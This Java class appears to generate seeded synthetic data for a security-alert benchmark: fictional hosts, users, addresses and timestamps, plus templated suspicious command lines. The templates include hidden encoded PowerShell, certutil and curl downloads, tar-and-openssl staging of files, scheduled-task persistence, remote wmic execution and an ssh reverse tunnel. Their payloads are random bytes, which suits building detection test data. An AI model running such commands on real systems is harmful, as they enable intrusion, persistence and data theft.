package org.sentinelbridge.bench.alerts;

import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.UUID;

/** Names and figures of a company that does not exist, the same in every run. */
final class MadeUp {

    private static final List<String> PLACES = List.of("ber", "lyon", "osaka", "quito", "perth", "tromso");
    private static final List<String> ROLES = List.of("ws", "laptop", "sql", "web", "build", "print", "jump", "dc");
    private static final List<String> FIRST =
            List.of("amara", "bjorn", "chiara", "dario", "elif", "farid", "greta", "hana", "ivo", "jun", "katya", "liam");
    private static final List<String> LAST =
            List.of("okafor", "lindqvist", "moretti", "vega", "yilmaz", "haddad", "novak", "sato", "petrov", "weiss");

    private final Random random = new Random(7);

    String host() {
        return "%s-%s-%03d".formatted(any(PLACES), any(ROLES), random.nextInt(400));
    }

    String user() {
        return any(FIRST) + "." + any(LAST);
    }

    String commandLine(String user) {
        var number = random.nextInt(90_000) + 10_000;
        return switch (random.nextInt(10)) {
            case 0 -> "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand " + base64(60 + random.nextInt(120));
            case 1 -> "rundll32.exe C:\\Users\\" + user + "\\AppData\\Local\\Temp\\" + hex(4) + ".dll,Start " + number;
            case 2 -> "cmd.exe /c \"net group \"Domain Admins\" /domain > \\\\" + host() + "\\share$\\" + hex(3) + ".txt\"";
            case 3 -> "certutil.exe -urlcache -split -f http://" + address() + ":8080/" + hex(6) + "/update.cab " + hex(4) + ".cab";
            case 4 -> "curl -sS -o /tmp/." + hex(5) + " https://files-" + number + ".example.net/" + base64(18) + "?t=" + hex(8);
            case 5 -> "/bin/bash -c 'tar czf - /srv/" + user + "/export | openssl enc -aes-256-cbc -k " + base64(12) + "'";
            case 6 -> "schtasks.exe /create /tn \"Updater " + number + "\" /sc minute /mo 15 /tr C:\\ProgramData\\" + hex(4) + ".exe";
            case 7 -> "wmic.exe /node:" + host() + " process call create \"C:\\Windows\\Temp\\" + hex(4) + ".bat\"";
            case 8 -> "ssh -o StrictHostKeyChecking=no -R " + number % 60_000 + ":localhost:22 " + user + "@" + address();
            default -> "python3 -m http.server " + number % 60_000 + " --directory /var/lib/" + user + "/" + hex(6);
        };
    }

    String address() {
        return "10.%d.%d.%d".formatted(random.nextInt(200), random.nextInt(250), 1 + random.nextInt(250));
    }

    String publicAddress() {
        return "203.0.113." + random.nextInt(250);
    }

    String time() {
        return "2026-11-%02dT%02d:%02d:%02d.%03dZ".formatted(
                1 + random.nextInt(28), random.nextInt(24), random.nextInt(60), random.nextInt(60), random.nextInt(1000));
    }

    String uuid() {
        return new UUID(random.nextLong(), random.nextLong()).toString();
    }

    String mac() {
        return HexFormat.ofDelimiter("-").withUpperCase().formatHex(bytes(6)).toUpperCase(Locale.ROOT);
    }

    String hex(int bytes) {
        return HexFormat.of().formatHex(bytes(bytes));
    }

    int below(int bound) {
        return random.nextInt(bound);
    }

    <T> T any(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private String base64(int bytes) {
        return Base64.getEncoder().encodeToString(bytes(bytes));
    }

    private byte[] bytes(int count) {
        var bytes = new byte[count];
        random.nextBytes(bytes);
        return bytes;
    }
}
